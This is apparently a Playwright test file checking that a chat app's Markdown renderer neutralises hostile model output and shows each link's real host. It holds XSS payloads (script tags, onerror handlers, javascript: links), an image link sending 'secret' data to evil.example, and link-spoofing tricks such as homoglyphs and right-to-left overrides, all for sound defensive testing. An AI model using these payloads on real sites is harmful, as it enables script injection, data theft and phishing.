"""Text of models and documents is untrusted: no script runs, nothing is loaded.

``page_for`` fails a test whose page requests another site or violates the content policy.
"""

import json
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.scripted_llm import stream

pytestmark = pytest.mark.django_db(transaction=True)

SHARED = Path(__file__).resolve().parents[4] / "shared" / "hostile"
PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "![track](https://evil.example/x.png?data=secret)",
    "![track][ref]\n\n[ref]: https://evil.example/x.png",
    "[go](javascript:alert(1))",
    "[go](data:text/html,<script>alert(1)</script>)",
    "[log out](/accounts/logout/)",
    '<a href="x" onclick="alert(1)">x</a><iframe src="https://evil.example"></iframe>',
    '<svg><animate onbegin="alert(1)" attributeName="x"></animate></svg>',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<form action="https://evil.example"><input name="q"><button>Send</button></form>',
    "```<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$",
    "$$\\htmlStyle{background:url(https://evil.example)}{x}$$",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](vbscript:x) |",
    '<https://evil.example/"onmouseover=alert(1)>',
    '!["><img src=x onerror=alert(1)>](x"onerror="alert(1))',
]
RENDER = """
async (payloads) => {
  const template = document.querySelector('template[data-answer]').content.firstElementChild;
  const answer = document.body.appendChild(document.importNode(template, true));
  // The code that draws Markdown is loaded apart.
  while (!answer.text.view) await new Promise(requestAnimationFrame);
  const MarkdownView = answer.text.view.constructor;
  answer.remove();
  window.ran = [];
  window.alert = (message) => window.ran.push(String(message));
  const box = document.createElement('div');
  box.className = 'prose';
  document.body.append(box);
  const found = [];
  for (const payload of payloads) {
    box.replaceChildren();
    const view = new MarkdownView(box, { codeBar: () => document.createElement('div') });
    // As it streams: in three pieces, then whole.
    for (const share of [0.3, 0.6, 0.9]) {
      view.update(payload.slice(0, payload.length * share), { final: false });
    }
    view.update(payload);
    await new Promise((resolve) => setTimeout(resolve));
    for (const element of box.querySelectorAll('*')) {
      const names = element.getAttributeNames();
      const href = element.getAttribute('href');
      const drawn = element.closest('.katex');
      const bad =
        ['SCRIPT', 'IMG', 'IFRAME', 'STYLE', 'FORM', 'OBJECT', 'EMBED', 'LINK', 'VIDEO', 'AUDIO',
          'image', 'META', 'BASE'].includes(element.tagName) ||
        names.some((name) => name.startsWith('on') || name === 'src' || name === 'srcset') ||
        (element.tagName === 'INPUT' && element.type !== 'checkbox') ||
        (href !== null && !/^(https?:\\/\\/|mailto:)/i.test(href)) ||
        (drawn && href !== null);
      if (bad) found.push([payload, element.outerHTML.slice(0, 200)]);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  box.remove();
  return { found, ran: window.ran };
}
"""


def rendered(page: Page, payloads: list[str]):
    page.goto("/i/law/")
    return page.evaluate(RENDER, payloads)


def test_hostile_markdown_runs_no_script(cast, page_for):
    assert rendered(page_for(cast.teammate), PAYLOADS) == {"found": [], "ran": []}


@pytest.mark.skipif(not SHARED.exists(), reason="../shared/hostile is absent")
def test_dompurify_attack_list_runs_no_script(cast, page_for):
    lines = (SHARED / "xss" / "payloads.jsonl").read_text().split("\n")
    payloads = [json.loads(line)["payload"] for line in lines if line]
    assert rendered(page_for(cast.teammate), payloads) == {"found": [], "ran": []}


@pytest.mark.skipif(not SHARED.exists(), reason="../shared/hostile is absent")
def test_commonmark_examples_run_no_script(cast, page_for):
    texts = [
        path.read_text(errors="replace")
        for path in sorted((SHARED / "gfm").rglob("*.txt"))
        if path.name != "SOURCE.txt"
    ]
    examples = [
        example.split("\n.\n")[0].replace("→", "\t")
        for text in texts
        for example in text.split("`" * 32 + " example")[1:]
    ]
    assert len(examples) > 500
    assert rendered(page_for(cast.teammate), examples) == {"found": [], "ran": []}


def test_answer_shows_link_hosts_and_loads_no_images(library, llm, page_for):
    llm.script(
        stream(
            "Voir [le site](https://www.example.org/a) ",
            "![logo](https://evil.example/x.png) ",
            "[https://good.example](https://good.exam",
            "ple@evil.example/)",
        )
    )
    page = page_for(library.teammate)
    page.goto("/i/law/")
    page.get_by_role("textbox").last.fill("Combien de jours de congé ont les doctorants ?")
    page.keyboard.press("Enter")
    answer = page.locator("chat-answer")
    expect(answer).to_have_attribute("data-status", "complete")
    links = answer.locator(".prose a")
    expect(links).to_have_text(
        [
            "le site (www.example.org)",
            "logo (evil.example)",
            "https://good.example (evil.example)",
        ]
    )
    expect(links.last).to_have_attribute("href", "https://evil.example/")
    expect(links.first).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(answer.locator("img")).to_have_count(0)


# A link's Markdown, and what must be shown: its text, then the host unless the text is the host or
# the address.
LINKS = {
    "the address itself": ("https://good.example/a", "https://good.example/a"),
    "the address, without its scheme": ("www.good.example/a", "www.good.example/a"),
    "the host itself": ("[good.example](https://good.example/a)", "good.example"),
    "another letter case": (
        "[HTTPS://GOOD.example](https://good.example)",
        "HTTPS://GOOD.example (good.example)",
    ),
    "words": ("[the site](https://good.example/a)", "the site (good.example)"),
    "no words": ("[](https://evil.example)", "(evil.example)"),
    "another address": (
        "[https://good.example](https://evil.example)",
        "https://good.example (evil.example)",
    ),
    "a longer host": (
        "[https://good.example](https://good.example.evil.example)",
        "https://good.example (good.example.evil.example)",
    ),
    "a longer host around the real one": (
        "[https://evil.example.good.example](https://evil.example)",
        "https://evil.example.good.example (evil.example)",
    ),
    "the real host among others": (
        "[evil.example – go to good.example](https://evil.example)",
        "evil.example – go to good.example (evil.example)",
    ),
    "the real host in the path": (
        "[https://good.example/evil.example](https://evil.example)",
        "https://good.example/evil.example (evil.example)",
    ),
    "the note itself": (
        "[good.example (good.example)](https://evil.example)",
        "good.example (good.example) (evil.example)",
    ),
    "another port": (
        "[evil.example](https://evil.example:8443)",
        "evil.example (evil.example:8443)",
    ),
    "a host as user name": (
        "[https://good.example](https://good.example@evil.example/)",
        "https://good.example (evil.example)",
    ),
    "a bare address with a user name": (
        "https://good.example:pw@evil.example/",
        "https://good.example:pw@evil.example/ (evil.example)",
    ),
    "an encoded host": (
        "[https://evil%2Eexample](https://evil%2Eexample)",
        "https://evil%2Eexample (evil.example)",
    ),
    "a Cyrillic letter": (
        "[https://gооd.example](https://gооd.example)",
        "https://gооd.example (xn--gd-fmca.example)",
    ),
    "punycode": (
        "[https://good.example](https://xn--gd-fmca.example)",
        "https://good.example (xn--gd-fmca.example)",
    ),
    "an accent": (
        "[https://góod.example](https://góod.example)",
        "https://góod.example (xn--god-gna.example)",
    ),
    "zero width": (
        "[evil​.example⁠](https://good.example)",
        "evil.example (good.example)",
    ),
    "right to left override": (
        "‮[elpmaxe.live‮](https://evil.example)",
        "elpmaxe.live (evil.example)",
    ),
    "right to left override as an entity": (
        "[elpmaxe.live&#x202E;](https://evil.example)",
        "elpmaxe.live (evil.example)",
    ),
    "the end of an isolate": (
        "‮[good.example⁩‮](https://evil.example)",
        "good.example (evil.example)",
    ),
    "letters from right to left": (
        "[https://evil.example/א/good.example](https://evil.example/%D7%90/good.example)",
        "https://evil.example/א/good.example (evil.example)",
    ),
    "empty space": (
        "[https://good.example" + " " * 500 + "](https://evil.example)",
        "https://good.example (evil.example)",
    ),
    "line breaks": (
        "[https://good.example" + "\n\u2800" * 30 + "](https://evil.example)",
        "https://good.example (evil.example)",
    ),
    "an image": (
        "![https://good.example](https://evil.example/x.png)",
        "https://good.example (evil.example)",
    ),
    "code": (
        "[`https://good.example`](https://evil.example)",
        "https://good.example (evil.example)",
    ),
    "a title": (
        '[good.example](https://evil.example "https://good.example")',
        "good.example (evil.example)",
    ),
    "a mail address": ("somebody@good.example", "somebody@good.example"),
    "another mail address": (
        "[somebody@good.example](mailto:somebody@evil.example)",
        "somebody@good.example (somebody@evil.example)",
    ),
    "a copy to another mail address": (
        "[somebody@good.example](mailto:somebody@good.example?bcc=a@evil.example)",
        "somebody@good.example",
    ),
}
SHOW_LINKS = """
async (payloads) => {
  const template = document.querySelector('template[data-answer]').content.firstElementChild;
  const answer = document.body.appendChild(document.importNode(template, true));
  // The code that draws Markdown is loaded apart.
  while (!answer.text.view) await new Promise(requestAnimationFrame);
  const MarkdownView = answer.text.view.constructor;
  answer.remove();
  const box = document.createElement('div');
  box.className = 'prose';
  document.body.append(box);
  const shown = [];
  for (const payload of payloads) {
    box.replaceChildren();
    new MarkdownView(box, {}).update(payload);
    const links = [...box.querySelectorAll('a')];
    const notes = [...box.querySelectorAll('.link-site')];
    shown.push({
      texts: links.map((link) => link.innerText),
      misleading: links.some((link) => link.title !== link.href || /@/.test(link.host)
        || link.username || link.search),
      reversible: notes.some((note) => {
        const style = getComputedStyle(note);
        return style.direction !== 'ltr' || !style.unicodeBidi.startsWith('isolate');
      }) || /[\u202a-\u202e\u2066-\u2069]/.test(box.textContent),
    });
  }
  box.remove();
  return shown;
}
"""


def test_each_link_shows_its_host(cast, page_for):
    page = page_for(cast.teammate)
    page.goto("/i/law/")
    shown = page.evaluate(SHOW_LINKS, [markdown for markdown, _text in LINKS.values()])
    found = dict(zip(LINKS, shown, strict=True))
    assert {name: one["texts"] for name, one in found.items()} == {
        name: [text] for name, (_markdown, text) in LINKS.items()
    }
    assert [name for name, one in found.items() if one["misleading"] or one["reversible"]] == []
